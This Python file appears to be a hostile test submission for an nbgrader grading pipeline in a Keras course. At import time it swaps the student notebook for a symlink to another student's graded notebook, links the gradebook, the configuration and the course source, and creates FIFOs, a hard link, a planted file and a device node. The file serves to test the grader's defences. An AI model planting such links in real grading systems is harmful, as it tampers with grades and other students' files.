"""Fills its own folder with things the grader would later write through, chmod, copy or block
on: its notebook replaced by a symbolic link to another student's graded notebook, links to the
gradebook, the configuration and `source/`, a FIFO, a hard link, a planted file, and a `.html`
link that feedback would copy.

After grading, the student's graded folder and feedback must hold only what the grader wrote:
no link, FIFO or planted file, and nothing of another student, the gradebook, the configuration
or `source/` may change. The code is correct and keeps every point.
"""
import os

LOSES = []
PROBES = ["planted", "others", "source"]

if True:  # the trick
    _course = os.path.join("..", "..", "..")
    _plants = {
        "a1_sequential.ipynb": os.path.join("..", "..", "ok-reference", "a1_sequential",
                                            "a1_sequential.ipynb"),
        "gradebook.db": os.path.join(_course, "gradebook.db"),
        "nbgrader_config.py": os.path.join(_course, "nbgrader_config.py"),
        "source.ipynb": os.path.join(_course, "source", "a1_sequential", "a1_sequential.ipynb"),
        "a1_sequential.html": os.path.join(_course, "nbgrader_config.py"),
    }
    for _name, _target in _plants.items():
        try:
            if os.path.lexists(_name):
                os.remove(_name)
            os.symlink(_target, _name)
        except OSError as _exc:
            print("no link", _name, type(_exc).__name__)
    for _how in (lambda: os.mkfifo("planted-fifo"), lambda: os.mkfifo("endless.html"),
                 lambda: os.link("planted-file.txt", "planted-hardlink.txt"),
                 lambda: os.mknod("planted-device", 0o600 | 0o020000, os.makedev(1, 3))):
        try:
            with open("planted-file.txt", "w") as _f:
                _f.write("keras-course-hostile-probe\n")
            _how()
        except OSError as _exc:
            print("no plant:", type(_exc).__name__)
    print("planted:", sorted(os.listdir(".")))


def compile_classifier(model):
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    return model
